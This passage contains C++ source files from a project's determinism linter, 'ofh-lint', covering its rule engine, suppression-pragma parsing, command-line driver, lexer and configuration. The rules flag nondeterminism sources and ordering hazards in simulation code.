                  const Comment& comment, std::uint32_t target_line,
                  PragmaState* state) {
  const auto marker = comment.text.find("ofh-lint:");
  if (marker == std::string::npos) return;
  const auto bad = [&](const std::string& message) {
    state->problems.push_back({"bad-pragma", relpath, comment.line,
                               config.severity("bad-pragma"), message});
  };
  std::string rest = trimmed(comment.text.substr(marker + 9));
  if (rest.rfind("allow", 0) != 0) {
    bad("unrecognized ofh-lint pragma (expected 'allow(<rule>) — "
        "<justification>')");
    return;
  }
  rest = trimmed(rest.substr(5));
  if (rest.empty() || rest.front() != '(') {
    bad("allow pragma missing '(<rule>)' list");
    return;
  }
  const auto close = rest.find(')');
  if (close == std::string::npos) {
    bad("allow pragma missing closing ')'");
    return;
  }
  // Split the comma-separated rule list.
  std::vector<std::string> rule_names;
  std::string list = rest.substr(1, close - 1);
  std::size_t start = 0;
  while (start <= list.size()) {
    const auto comma = list.find(',', start);
    const std::string name = trimmed(
        list.substr(start, comma == std::string::npos ? std::string::npos
                                                      : comma - start));
    if (!name.empty()) rule_names.push_back(name);
    if (comma == std::string::npos) break;
    start = comma + 1;
  }
  if (rule_names.empty()) {
    bad("allow pragma names no rules");
    return;
  }
  for (const auto& name : rule_names) {
    if (!config.known_rule(name)) {
      bad("allow pragma names unknown rule '" + name + "'");
      return;
    }
    if (name == "bad-pragma" || name == "unused-suppression") {
      bad("rule '" + name + "' cannot be suppressed");
      return;
    }
  }
  // Everything after the rule list, minus separator dashes/colons, is the
  // justification.
  std::string justification = trimmed(rest.substr(close + 1));
  while (!justification.empty() &&
         (justification.front() == '-' || justification.front() == ':' ||
          justification.front() == ',')) {
    justification.erase(justification.begin());
  }
  // UTF-8 em dash (0xE2 0x80 0x94) used as the canonical separator.
  while (justification.size() >= 3 &&
         static_cast<unsigned char>(justification[0]) == 0xe2 &&
         static_cast<unsigned char>(justification[1]) == 0x80) {
    justification.erase(0, 3);
  }
  justification = trimmed(justification);
  if (justification.size() < 10) {
    bad("allow pragma requires a justification ('allow(<rule>) — <why this "
        "is deterministic>')");
    return;
  }
  for (const auto& name : rule_names) {
    state->allows[{target_line, name}] = Suppression{};
  }
}

// ------------------------------------------------- unordered declarations

// Collects names of variables/members declared with an unordered container
// type in this token stream. Heuristic, not a parser: it resolves the
// dominant idiom `std::unordered_map<K, V> name` (members, locals, and
// parameters). Aliased types (`using M = std::unordered_map<...>`) are a
// documented blind spot — keep unordered types spelled at the declaration.
void collect_unordered_decls(const std::vector<Token>& toks,
                             std::set<std::string>* names) {
  for (std::size_t i = 0; i < toks.size(); ++i) {
    if (toks[i].kind != TokKind::kIdent ||
        unordered_types().count(toks[i].text) == 0) {
      continue;
    }
    if (i + 1 >= toks.size() || !is_punct(toks[i + 1], "<")) continue;
    std::size_t after = skip_angles(toks, i + 1);
    // Skip declarator decorations.
    while (after < toks.size() &&
           (is_punct(toks[after], "*") || is_punct(toks[after], "&") ||
            is_ident(toks[after], "const"))) {
      ++after;
    }
    if (after >= toks.size() || toks[after].kind != TokKind::kIdent) continue;
    // A following "(" means this named a function returning the container.
    if (after + 1 < toks.size() && is_punct(toks[after + 1], "(")) continue;
    names->insert(toks[after].text);
  }
}

// ------------------------------------------------------------ rule passes

struct Pass {
  const Config& config;
  const std::string& relpath;
  const std::vector<Token>& toks;
  std::vector<Finding>* findings;

  void emit(const std::string& rule, std::uint32_t line,
            std::string message) const {
    if (!config.applies(rule, relpath)) return;
    findings->push_back(
        {rule, relpath, line, config.severity(rule), std::move(message)});
  }
};

void check_banned_names(const Pass& pass) {
  static const std::set<std::string> kRand = {
      "rand", "srand", "random", "srandom", "drand48", "lrand48",
      "mrand48", "rand_r"};
  static const std::set<std::string> kClockTypes = {
      "system_clock", "steady_clock", "high_resolution_clock", "file_clock",
      "utc_clock", "tai_clock", "gps_clock"};
  static const std::set<std::string> kTimeFuncs = {
      "time", "gettimeofday", "clock_gettime", "clock", "localtime",
      "gmtime", "mktime", "ctime", "strftime", "timespec_get"};
  static const std::set<std::string> kEnvFuncs = {
      "getenv", "secure_getenv", "setenv", "putenv", "unsetenv"};
  static const std::set<std::string> kSleepFuncs = {
      "sleep_for", "sleep_until", "usleep", "nanosleep", "sleep"};

  const auto& toks = pass.toks;
  for (std::size_t i = 0; i < toks.size(); ++i) {
    if (toks[i].kind != TokKind::kIdent) continue;
    const std::string& name = toks[i].text;
    const std::string qual = qualifier(toks, i);
    const bool member = member_access(toks, i);
    const bool std_or_bare = qual.empty() || qual == "std" ||
                             qual == "chrono" || qual == "this_thread";

    if (name == "random_device" && !member && std_or_bare) {
      pass.emit("random-device", toks[i].line,
                "std::random_device is a nondeterminism source; derive "
                "streams from the study seed (util::Rng / util::splitmix64)");
      continue;
    }
    if (kRand.count(name) != 0 && followed_by_call(toks, i) && !member &&
        std_or_bare) {
      pass.emit("libc-rand", toks[i].line,
                "'" + name + "' draws from hidden libc global state; use "
                "util::Rng seeded from the study seed");
      continue;
    }
    if (kClockTypes.count(name) != 0 && !member && std_or_bare) {
      pass.emit("wall-clock", toks[i].line,
                "'" + name + "' reads wall time; sim-domain code must use "
                "sim::Simulation::now() (wall reads belong to the obs "
                "wall-metric domain)");
      continue;
    }
    if (kTimeFuncs.count(name) != 0 && followed_by_call(toks, i) && !member &&
        (qual.empty() || qual == "std")) {
      pass.emit("wall-clock", toks[i].line,
                "'" + name + "()' reads wall time; sim-domain code must use "
                "sim::Simulation::now()");
      continue;
    }
    if (kEnvFuncs.count(name) != 0 && followed_by_call(toks, i) && !member &&
        (qual.empty() || qual == "std")) {
      pass.emit("env-read", toks[i].line,
                "'" + name + "' makes replay depend on the process "
                "environment; thread configuration through explicit config "
                "structs");
      continue;
    }
    if (kSleepFuncs.count(name) != 0 && followed_by_call(toks, i) &&
        std_or_bare && (!member || name == "sleep_for" ||
                        name == "sleep_until")) {
      pass.emit("thread-sleep", toks[i].line,
                "'" + name + "' blocks on wall time; schedule future work "
                "with sim().after()/at() instead");
      continue;
    }
  }
}

void check_unordered_iteration(const Pass& pass,
                               const std::set<std::string>& unordered_names) {
  const auto& toks = pass.toks;
  for (std::size_t i = 0; i + 1 < toks.size(); ++i) {
    if (!is_ident(toks[i], "for") || !is_punct(toks[i + 1], "(")) continue;
    const std::size_t open = i + 1;
    const std::size_t close = match_paren(toks, open);
    if (close >= toks.size()) continue;

    // Range-for: a lone ":" at paren depth 1 splits declaration from range
    // expression; the last identifier of the expression names the container
    // in the dominant idioms (`m_`, `obj.member`, `ptr->member`).
    int depth = 0;
    std::size_t colon = 0;
    for (std::size_t j = open; j < close; ++j) {
      if (is_punct(toks[j], "(")) ++depth;
      if (is_punct(toks[j], ")")) --depth;
      if (depth == 1 && is_punct(toks[j], ":")) {
        colon = j;
        break;
      }
    }
    if (colon != 0) {
      const Token* last_ident = nullptr;
      for (std::size_t j = colon + 1; j < close; ++j) {
        if (toks[j].kind == TokKind::kIdent) last_ident = &toks[j];
      }
      if (last_ident != nullptr &&
          unordered_names.count(last_ident->text) != 0) {
        pass.emit("unordered-iteration", toks[i].line,
                  "range-for over unordered container '" + last_ident->text +
                      "' leaks hash-table iteration order; collect and sort "
                      "by a deterministic key, or use an ordered container");
      }
    }

    // Iterator loop: `x.begin()` / `x->cbegin()` inside the for header.
    for (std::size_t j = open; j + 2 < close; ++j) {
      if (toks[j].kind == TokKind::kIdent &&
          unordered_names.count(toks[j].text) != 0 &&
          (is_punct(toks[j + 1], ".") || is_punct(toks[j + 1], "->")) &&
          (is_ident(toks[j + 2], "begin") || is_ident(toks[j + 2], "cbegin"))) {
        pass.emit("unordered-iteration", toks[i].line,
                  "iterator loop over unordered container '" + toks[j].text +
                      "' leaks hash-table iteration order; collect and sort "
                      "by a deterministic key, or use an ordered container");
        break;
      }
    }
  }
}

void check_pointer_order(const Pass& pass) {
  const auto& toks = pass.toks;
  for (std::size_t i = 0; i + 1 < toks.size(); ++i) {
    if (toks[i].kind != TokKind::kIdent || !is_punct(toks[i + 1], "<")) {
      continue;
    }
    const std::string& name = toks[i].text;
    const std::string qual = qualifier(toks, i);
    std::vector<const Token*> inside;
    if (name == "hash" && (qual == "std")) {
      skip_angles(toks, i + 1, &inside);
      for (const Token* tok : inside) {
        if (tok->kind == TokKind::kPunct && tok->text == "*") {
          pass.emit("pointer-hash", toks[i].line,
                    "std::hash over a pointer type feeds allocation-"
                    "dependent values into whatever consumes it; hash a "
                    "stable id instead");
          break;
        }
      }
    } else if (name == "less" && qual == "std") {
      skip_angles(toks, i + 1, &inside);
      for (const Token* tok : inside) {
        if (tok->kind == TokKind::kPunct && tok->text == "*") {
          pass.emit("pointer-order", toks[i].line,
                    "std::less over a pointer type orders by address; order "
                    "by a stable key instead");
          break;
        }
      }
    } else if (name == "reinterpret_cast") {
      skip_angles(toks, i + 1, &inside);
      for (const Token* tok : inside) {
        if (tok->kind == TokKind::kIdent &&
            (tok->text == "uintptr_t" || tok->text == "intptr_t")) {
          pass.emit("pointer-order", toks[i].line,
                    "casting a pointer to uintptr_t derives a value from an "
                    "allocation address; key on a stable id instead");
          break;
        }
      }
    }
  }
}

void check_unmarked_static(const Pass& pass) {
  static const std::set<std::string> kMarkers = {
      "const", "constexpr", "constinit", "thread_local", "atomic",
      "atomic_flag", "atomic_bool", "atomic_int", "atomic_uint64_t",
      "mutex", "shared_mutex", "recursive_mutex", "timed_mutex",
      "once_flag", "condition_variable", "condition_variable_any"};
  const auto& toks = pass.toks;
  for (std::size_t i = 0; i < toks.size(); ++i) {
    const bool is_static = is_ident(toks[i], "static");
    const bool is_inline = is_ident(toks[i], "inline") &&
                           !(i >= 1 && is_ident(toks[i - 1], "static"));
    if (!is_static && !is_inline) continue;
    bool marked = false;
    bool function_or_type = false;
    const Token* last_name = nullptr;
    for (std::size_t j = i + 1; j < toks.size(); ++j) {
      const Token& tok = toks[j];
      if (tok.kind == TokKind::kIdent) {
        if (kMarkers.count(tok.text) != 0) {
          marked = true;
          break;
        }
        if (tok.text == "namespace" || tok.text == "class" ||
            tok.text == "struct" || tok.text == "union" ||
            tok.text == "enum" || tok.text == "using" ||
            tok.text == "typedef" || tok.text == "template" ||
            tok.text == "friend" || tok.text == "operator" ||
            tok.text == "static" || tok.text == "virtual" ||
            tok.text == "explicit") {
          function_or_type = true;
          break;
        }
        last_name = &tok;
        continue;
      }
      if (is_punct(tok, "(")) {  // function declaration/definition
        function_or_type = true;
        break;
      }
      if (is_punct(tok, "<")) {  // skip template arguments of the type
        j = skip_angles(toks, j) - 1;
        continue;
      }
      if (is_punct(tok, ";") || is_punct(tok, "=") || is_punct(tok, "{")) {
        break;
      }
    }
    if (marked || function_or_type || last_name == nullptr) continue;
    pass.emit("unmarked-static", toks[i].line,
              "mutable static '" + last_name->text +
                  "' is shared across scan shards without a concurrency "
                  "marker; make it const/constexpr, std::atomic, "
                  "mutex-guarded, or thread_local");
  }
}

void check_atomic_order(const Pass& pass) {
  static const std::set<std::string> kAtomicOps = {
      "fetch_add", "fetch_sub", "fetch_and", "fetch_or", "fetch_xor",
      "load", "store", "exchange", "compare_exchange_weak",
      "compare_exchange_strong", "test_and_set"};
  const auto& toks = pass.toks;
  for (std::size_t i = 1; i + 1 < toks.size(); ++i) {
    if (toks[i].kind != TokKind::kIdent ||
        kAtomicOps.count(toks[i].text) == 0 || !member_access(toks, i) ||
        !followed_by_call(toks, i)) {
      continue;
    }
    const std::size_t close = match_paren(toks, i + 1);
    bool has_order = false;
    bool seq_cst = false;
    for (std::size_t j = i + 2; j < close; ++j) {
      if (toks[j].kind != TokKind::kIdent) continue;
      if (toks[j].text.rfind("memory_order", 0) == 0) {
        has_order = true;
        if (toks[j].text == "memory_order_seq_cst") seq_cst = true;
        // std::memory_order::seq_cst spelling
        if (toks[j].text == "memory_order" && j + 2 < close &&
            is_punct(toks[j + 1], "::") && is_ident(toks[j + 2], "seq_cst")) {
          seq_cst = true;
        }
      }
    }
    if (!has_order) {
      pass.emit("atomic-default-order", toks[i].line,
                "'" + toks[i].text + "' without an explicit memory_order "
                "defaults to seq_cst on a hot path; spell the ordering "
                "(relaxed for counters)");
    } else if (seq_cst) {
      pass.emit("atomic-default-order", toks[i].line,
                "'" + toks[i].text + "' uses memory_order_seq_cst on a hot "
                "path; counters and flags here should be relaxed (justify "
                "stronger orderings with a suppression)");
    }
  }
}

}  // namespace

std::vector<Finding> lint_source(const Config& config,
                                 const std::string& relpath,
                                 std::string_view source,
                                 std::string_view header_source) {
  const LexResult lexed = lex(source);

  // Suppression pragmas: a comment alone on its line covers the next code
  // line; a trailing comment covers its own line.
  PragmaState pragmas;
  for (const Comment& comment : lexed.comments) {
    std::uint32_t target = comment.line;
    if (comment.own_line) {
      target = 0;
      for (const Token& tok : lexed.tokens) {
        if (tok.line > comment.line) {
          target = tok.line;
          break;
        }
      }
      if (target == 0) target = comment.line;
    }
    parse_pragma(config, relpath, comment, target, &pragmas);
  }

  std::set<std::string> unordered_names;
  if (!header_source.empty()) {
    collect_unordered_decls(lex(header_source).tokens, &unordered_names);
  }
  collect_unordered_decls(lexed.tokens, &unordered_names);

  std::vector<Finding> raw;
  const Pass pass{config, relpath, lexed.tokens, &raw};
  check_banned_names(pass);
  check_unordered_iteration(pass, unordered_names);
  check_pointer_order(pass);
  check_unmarked_static(pass);
  check_atomic_order(pass);

  // Apply suppressions; anything left in `allows` unused is itself a
  // finding, so stale pragmas can't accumulate.
  std::vector<Finding> out;
  for (Finding& finding : raw) {
    const auto it = pragmas.allows.find({finding.line, finding.rule});
    if (it != pragmas.allows.end()) {
      it->second.used = true;
      continue;
    }
    out.push_back(std::move(finding));
  }
  for (Finding& problem : pragmas.problems) {
    if (config.applies("bad-pragma", relpath)) {
      out.push_back(std::move(problem));
    }
  }
  for (const auto& [key, suppression] : pragmas.allows) {
    if (suppression.used) continue;
    if (!config.applies("unused-suppression", relpath)) continue;
    out.push_back({"unused-suppression", relpath, key.first,
                   config.severity("unused-suppression"),
                   "allow(" + key.second + ") suppresses nothing on this "
                   "line; remove the stale pragma"});
  }
  std::sort(out.begin(), out.end());
  return out;
}

}  // namespace ofh::lint
