// ofh-lint: the project's determinism static-analysis pass. Proves the
// byte-identical-replay contract structurally: no nondeterminism sources,
// no hash-order leaks into exports, no unmarked shared state — at CI time,
// before a probabilistic replay failure ever gets the chance.
//
// Usage: ofh-lint [--config FILE] [--root DIR] [--format text|json] PATH...
//   PATHs are files or directories (recursed for *.h/*.cpp), relative to
//   --root (default: current directory). Exit code 1 when any error-severity
//   finding survives suppression, 0 otherwise.
//
// This tool itself uses std::chrono::steady_clock for its elapsed-time
// summary — it lives in tools/, outside the linted sim domain, which is
// exactly the wall/sim split the lint enforces.
#include <chrono>
#include <cstdio>
#include <string>
#include <vector>

#include "config.h"
#include "driver.h"

namespace {

using ofh::lint::Config;
using ofh::lint::Finding;
using ofh::lint::Severity;

std::string json_escape(const std::string& text) {
  std::string out;
  out.reserve(text.size() + 8);
  for (const char c : text) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\u%04x", c);
          out += buf;
        } else {
          out += c;
        }
    }
  }
  return out;
}

int usage() {
  std::fprintf(
      stderr,
      "usage: ofh-lint [--config FILE] [--root DIR] [--format text|json] "
      "PATH...\n");
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  std::string config_path;
  std::string root = ".";
  std::string format = "text";
  std::vector<std::string> inputs;

  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    const auto value = [&](std::string* out) {
      if (i + 1 >= argc) return false;
      *out = argv[++i];
      return true;
    };
    if (arg == "--config") {
      if (!value(&config_path)) return usage();
    } else if (arg == "--root") {
      if (!value(&root)) return usage();
    } else if (arg == "--format") {
      if (!value(&format) || (format != "text" && format != "json")) {
        return usage();
      }
    } else if (arg == "--help" || arg == "-h") {
      usage();
      return 0;
    } else if (!arg.empty() && arg[0] == '-') {
      std::fprintf(stderr, "ofh-lint: unknown flag '%s'\n", arg.c_str());
      return usage();
    } else {
      inputs.push_back(arg);
    }
  }
  if (inputs.empty()) return usage();

  Config config = Config::defaults();
  if (!config_path.empty()) {
    std::string error;
    const auto loaded = Config::load(config_path, &error);
    if (!loaded) {
      std::fprintf(stderr, "ofh-lint: %s\n", error.c_str());
      return 2;
    }
    config = *loaded;
  }

  const auto start = std::chrono::steady_clock::now();
  const auto files = ofh::lint::collect_files(root, inputs);
  ofh::lint::LintStats stats;
  const auto findings = ofh::lint::lint_files(config, root, files, &stats);
  const auto elapsed_ms =
      std::chrono::duration_cast<std::chrono::milliseconds>(
          std::chrono::steady_clock::now() - start)
          .count();

  std::uint64_t errors = 0;
  std::uint64_t warnings = 0;
  for (const Finding& finding : findings) {
    (finding.severity == Severity::kError ? errors : warnings) += 1;
  }

  if (format == "json") {
    std::printf("{\n  \"files\": %llu,\n  \"lines\": %llu,\n"
                "  \"elapsed_ms\": %lld,\n  \"errors\": %llu,\n"
                "  \"warnings\": %llu,\n  \"findings\": [",
                static_cast<unsigned long long>(stats.files),
                static_cast<unsigned long long>(stats.lines),
                static_cast<long long>(elapsed_ms),
                static_cast<unsigned long long>(errors),
                static_cast<unsigned long long>(warnings));
    for (std::size_t i = 0; i < findings.size(); ++i) {
      const Finding& f = findings[i];
      std::printf(
          "%s\n    {\"file\": \"%s\", \"line\": %u, \"rule\": \"%s\", "
          "\"severity\": \"%s\", \"message\": \"%s\"}",
          i == 0 ? "" : ",", json_escape(f.file).c_str(), f.line,
          json_escape(f.rule).c_str(), ofh::lint::severity_name(f.severity),
          json_escape(f.message).c_str());
    }
    std::printf("%s]\n}\n", findings.empty() ? "" : "\n  ");
  } else {
    for (const Finding& finding : findings) {
      std::printf("%s:%u: %s[%s]: %s\n", finding.file.c_str(), finding.line,
                  ofh::lint::severity_name(finding.severity),
                  finding.rule.c_str(), finding.message.c_str());
    }
    std::printf(
        "ofh-lint: %llu files, %llu lines, %llu errors, %llu warnings "
        "in %lld ms\n",
        static_cast<unsigned long long>(stats.files),
        static_cast<unsigned long long>(stats.lines),
        static_cast<unsigned long long>(errors),
        static_cast<unsigned long long>(warnings),
        static_cast<long long>(elapsed_ms));
  }
  return errors > 0 ? 1 : 0;
}
