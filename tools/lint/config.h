// Rule catalog and configuration for ofh-lint. Defaults are compiled in so
// the tool works standalone; `.ofh-lint.toml` at the repo root overrides
// severity and path scoping per rule (see Config::load).
#pragma once

#include <map>
#include <optional>
#include <string>
#include <vector>

namespace ofh::lint {

enum class Severity { kOff, kWarn, kError };

struct RuleConfig {
  Severity severity = Severity::kError;
  // Repo-relative path prefixes the rule is restricted to; empty = all
  // linted files. Uses '/'-separated prefixes, e.g. "src/net/".
  std::vector<std::string> paths;
  // Repo-relative path prefixes the rule never fires in, e.g. the obs
  // wall-metric domain for wall-clock.
  std::vector<std::string> allow_paths;
};

struct Config {
  std::map<std::string, RuleConfig> rules;

  // The built-in rule catalog with the project's default scoping.
  static Config defaults();
  // defaults() overlaid with the TOML-subset file at `path`. Returns
  // std::nullopt and fills `error` on parse failure or unknown rule names.
  static std::optional<Config> load(const std::string& path,
                                    std::string* error);

  bool known_rule(const std::string& rule) const {
    return rules.count(rule) != 0;
  }
  Severity severity(const std::string& rule) const;
  // True when `rule` applies to the repo-relative path `relpath`.
  bool applies(const std::string& rule, const std::string& relpath) const;
};

const char* severity_name(Severity severity);

}  // namespace ofh::lint
