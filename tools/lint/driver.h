// File collection and per-file driving shared by the ofh-lint CLI and the
// self-test: deterministic (sorted) traversal, paired-header resolution,
// and aggregate stats.
#pragma once

#include <cstdint>
#include <filesystem>
#include <string>
#include <vector>

#include "config.h"
#include "rules.h"

namespace ofh::lint {

struct LintStats {
  std::uint64_t files = 0;
  std::uint64_t lines = 0;
  std::uint64_t suppressible = 0;  // findings dropped by valid pragmas
};

// Expands `inputs` (files or directories, relative to `root`) into a sorted
// list of repo-relative *.h / *.cpp paths. Directories recurse.
std::vector<std::string> collect_files(const std::filesystem::path& root,
                                       const std::vector<std::string>& inputs);

// Lints one repo-relative file, resolving the paired header (X.h beside
// X.cpp) for cross-TU unordered-container declarations.
std::vector<Finding> lint_file(const Config& config,
                               const std::filesystem::path& root,
                               const std::string& relpath, LintStats* stats);

// Lints every file in `relpaths`, concatenating sorted per-file findings.
std::vector<Finding> lint_files(const Config& config,
                                const std::filesystem::path& root,
                                const std::vector<std::string>& relpaths,
                                LintStats* stats);

}  // namespace ofh::lint
