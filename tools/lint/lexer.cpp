#include "lexer.h"

#include <cctype>

namespace ofh::lint {

namespace {

bool ident_start(char c) {
  return std::isalpha(static_cast<unsigned char>(c)) != 0 || c == '_';
}

bool ident_char(char c) {
  return std::isalnum(static_cast<unsigned char>(c)) != 0 || c == '_';
}

// Raw-string openers: the lexer folds the prefix identifier into the string
// token, so only exact-prefix identifiers are treated as openers.
bool raw_string_prefix(std::string_view ident) {
  return ident == "R" || ident == "u8R" || ident == "uR" || ident == "LR";
}

}  // namespace

LexResult lex(std::string_view source) {
  LexResult out;
  std::size_t i = 0;
  const std::size_t n = source.size();
  std::uint32_t line = 1;
  // Line of the most recently emitted code token, for Comment::own_line.
  std::uint32_t last_token_line = 0;

  const auto push = [&](TokKind kind, std::string text) {
    out.tokens.push_back({kind, line, std::move(text)});
    last_token_line = line;
  };

  while (i < n) {
    const char c = source[i];
    if (c == '\n') {
      ++line;
      ++i;
      continue;
    }
    if (c == ' ' || c == '\t' || c == '\r' || c == '\f' || c == '\v') {
      ++i;
      continue;
    }

    // Comments.
    if (c == '/' && i + 1 < n && source[i + 1] == '/') {
      const std::size_t start = i + 2;
      std::size_t end = start;
      while (end < n && source[end] != '\n') ++end;
      out.comments.push_back({line, last_token_line != line,
                              std::string(source.substr(start, end - start))});
      i = end;
      continue;
    }
    if (c == '/' && i + 1 < n && source[i + 1] == '*') {
      const std::uint32_t start_line = line;
      const bool own = last_token_line != line;
      std::size_t end = i + 2;
      while (end + 1 < n && !(source[end] == '*' && source[end + 1] == '/')) {
        if (source[end] == '\n') ++line;
        ++end;
      }
      out.comments.push_back(
          {start_line, own, std::string(source.substr(i + 2, end - (i + 2)))});
      i = end + 1 < n ? end + 2 : n;
      continue;
    }

    // Preprocessor: #include header-names would otherwise lex as ident
    // inside angle brackets and confuse template-depth tracking, so the
    // whole include line is skipped. Other directives lex normally (a
    // macro body wrapping rand() should still be flagged).
    if (c == '#') {
      std::size_t j = i + 1;
      while (j < n && (source[j] == ' ' || source[j] == '\t')) ++j;
      std::size_t k = j;
      while (k < n && ident_char(source[k])) ++k;
      const std::string_view directive = source.substr(j, k - j);
      if (directive == "include" || directive == "include_next") {
        while (i < n && source[i] != '\n') ++i;
        continue;
      }
      push(TokKind::kPunct, "#");
      ++i;
      continue;
    }

    // Identifiers (and raw-string openers).
    if (ident_start(c)) {
      std::size_t end = i;
      while (end < n && ident_char(source[end])) ++end;
      std::string ident(source.substr(i, end - i));
      if (end < n && source[end] == '"' && raw_string_prefix(ident)) {
        // R"delim( ... )delim"
        std::size_t d = end + 1;
        std::size_t dend = d;
        while (dend < n && source[dend] != '(') ++dend;
        const std::string_view delim = source.substr(d, dend - d);
        const std::string closer = ")" + std::string(delim) + "\"";
        std::size_t body = dend < n ? dend + 1 : n;
        const std::size_t close = source.find(closer, body);
        const std::size_t stop = close == std::string_view::npos
                                     ? n
                                     : close + closer.size();
        for (std::size_t p = i; p < stop && p < n; ++p) {
          if (source[p] == '\n') ++line;
        }
        push(TokKind::kString,
             std::string(source.substr(body, (close == std::string_view::npos
                                                  ? n
                                                  : close) -
                                                 body)));
        i = stop;
        continue;
      }
      push(TokKind::kIdent, std::move(ident));
      i = end;
      continue;
    }

    // Numbers (loose: consumes separators, suffixes, exponent signs).
    if (std::isdigit(static_cast<unsigned char>(c)) != 0 ||
        (c == '.' && i + 1 < n &&
         std::isdigit(static_cast<unsigned char>(source[i + 1])) != 0)) {
      std::size_t end = i;
      while (end < n) {
        const char d = source[end];
        if (ident_char(d) || d == '\'' || d == '.') {
          ++end;
          continue;
        }
        if ((d == '+' || d == '-') && end > i) {
          const char prev = source[end - 1];
          if (prev == 'e' || prev == 'E' || prev == 'p' || prev == 'P') {
            ++end;
            continue;
          }
        }
        break;
      }
      push(TokKind::kNumber, std::string(source.substr(i, end - i)));
      i = end;
      continue;
    }

    // String and character literals.
    if (c == '"' || c == '\'') {
      const char quote = c;
      std::size_t end = i + 1;
      while (end < n && source[end] != quote) {
        if (source[end] == '\\' && end + 1 < n) {
          end += 2;
          continue;
        }
        if (source[end] == '\n') ++line;  // unterminated; keep line counts sane
        ++end;
      }
      push(quote == '"' ? TokKind::kString : TokKind::kChar,
           std::string(source.substr(i + 1, end - (i + 1))));
      i = end < n ? end + 1 : n;
      continue;
    }

    // Punctuation. "::" and "->" matter to the rules (qualification and
    // member access); everything else is emitted one character at a time,
    // which keeps <...> template-depth tracking simple (">>" is two ">").
    if (c == ':' && i + 1 < n && source[i + 1] == ':') {
      push(TokKind::kPunct, "::");
      i += 2;
      continue;
    }
    if (c == '-' && i + 1 < n && source[i + 1] == '>') {
      push(TokKind::kPunct, "->");
      i += 2;
      continue;
    }
    push(TokKind::kPunct, std::string(1, c));
    ++i;
  }

  out.line_count = line;
  return out;
}

}  // namespace ofh::lint
