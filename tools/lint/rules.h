// The ofh-lint rule engine: pattern matching over the lexer's token stream,
// suppression-pragma handling, and the per-file entry point shared by the
// CLI driver and the self-test (tests/lint_test.cpp).
//
// Rule catalog (see DESIGN.md "Determinism lint" for the rationale):
//   random-device        std::random_device construction
//   libc-rand            rand()/srand()/random()/drand48() family
//   wall-clock           chrono clock reads and C time functions outside
//                        the obs wall-metric domain
//   env-read             getenv/setenv family in sim code
//   thread-sleep         sleep_for/sleep_until/usleep/nanosleep
//   unordered-iteration  range-for or begin() loops over a container
//                        declared unordered in this TU or its paired header
//   pointer-hash         std::hash over a pointer type
//   pointer-order        reinterpret_cast<uintptr_t> / std::less<T*>:
//                        ordering derived from addresses
//   unmarked-static      mutable static/inline variable without
//                        const/constexpr/atomic/mutex/thread_local marking
//   atomic-default-order atomic RMW/load/store without an explicit
//                        memory_order, or with seq_cst, on a hot path
//   bad-pragma           ofh-lint pragma without a justification or with
//                        an unknown rule name
//   unused-suppression   allow() pragma that suppressed nothing
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "config.h"

namespace ofh::lint {

struct Finding {
  std::string rule;
  std::string file;  // repo-relative path
  std::uint32_t line = 0;
  Severity severity = Severity::kError;
  std::string message;

  bool operator<(const Finding& other) const {
    if (file != other.file) return file < other.file;
    if (line != other.line) return line < other.line;
    return rule < other.rule;
  }
};

// Lints one translation unit. `header_source` carries the paired header's
// contents (X.h next to X.cpp) so member containers declared in the header
// and iterated in the .cpp resolve; pass an empty view when there is none.
// Findings are sorted by (file, line, rule) and already have suppressions
// applied; suppressed findings are dropped, and pragma problems surface as
// bad-pragma / unused-suppression findings.
std::vector<Finding> lint_source(const Config& config,
                                 const std::string& relpath,
                                 std::string_view source,
                                 std::string_view header_source = {});

}  // namespace ofh::lint
