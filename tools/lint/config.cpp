#include "config.h"

#include <fstream>
#include <sstream>

namespace ofh::lint {

namespace {

std::string trim(const std::string& s) {
  const auto begin = s.find_first_not_of(" \t\r");
  if (begin == std::string::npos) return "";
  const auto end = s.find_last_not_of(" \t\r");
  return s.substr(begin, end - begin + 1);
}

// Strips a trailing comment that is not inside a quoted string.
std::string strip_comment(const std::string& s) {
  bool in_string = false;
  for (std::size_t i = 0; i < s.size(); ++i) {
    if (s[i] == '"') in_string = !in_string;
    if (s[i] == '#' && !in_string) return s.substr(0, i);
  }
  return s;
}

bool parse_string(const std::string& value, std::string* out) {
  if (value.size() < 2 || value.front() != '"' || value.back() != '"') {
    return false;
  }
  *out = value.substr(1, value.size() - 2);
  return true;
}

bool parse_string_array(const std::string& value,
                        std::vector<std::string>* out) {
  if (value.size() < 2 || value.front() != '[' || value.back() != ']') {
    return false;
  }
  out->clear();
  std::string inner = value.substr(1, value.size() - 2);
  std::stringstream ss(inner);
  std::string item;
  while (std::getline(ss, item, ',')) {
    item = trim(item);
    if (item.empty()) continue;
    std::string text;
    if (!parse_string(item, &text)) return false;
    out->push_back(std::move(text));
  }
  return true;
}

bool parse_severity(const std::string& text, Severity* out) {
  if (text == "off") {
    *out = Severity::kOff;
  } else if (text == "warn") {
    *out = Severity::kWarn;
  } else if (text == "error") {
    *out = Severity::kError;
  } else {
    return false;
  }
  return true;
}

}  // namespace

const char* severity_name(Severity severity) {
  switch (severity) {
    case Severity::kOff: return "off";
    case Severity::kWarn: return "warn";
    case Severity::kError: return "error";
  }
  return "error";
}

Config Config::defaults() {
  Config config;
  const std::vector<std::string> shared_state_scope = {
      "src/sim/", "src/net/", "src/scanner/"};

  // Nondeterminism sources: any of these inside the sim domain breaks
  // byte-identical replay, so they default to error everywhere under the
  // linted roots. The obs wall-metric domain is the one sanctioned home
  // for wall-clock reads (metrics.h Domain::kWall quarantines them out of
  // every deterministic export).
  config.rules["random-device"] = {Severity::kError, {}, {}};
  config.rules["libc-rand"] = {Severity::kError, {}, {}};
  config.rules["wall-clock"] = {Severity::kError, {}, {"src/obs/"}};
  config.rules["env-read"] = {Severity::kError, {}, {}};
  config.rules["thread-sleep"] = {Severity::kError, {}, {}};

  // Ordering hazards: iteration order of unordered containers and any
  // ordering derived from pointer values can leak allocator or hash-seed
  // dependent order into exports and merges.
  config.rules["unordered-iteration"] = {Severity::kError, {}, {}};
  config.rules["pointer-hash"] = {Severity::kError, {}, {}};
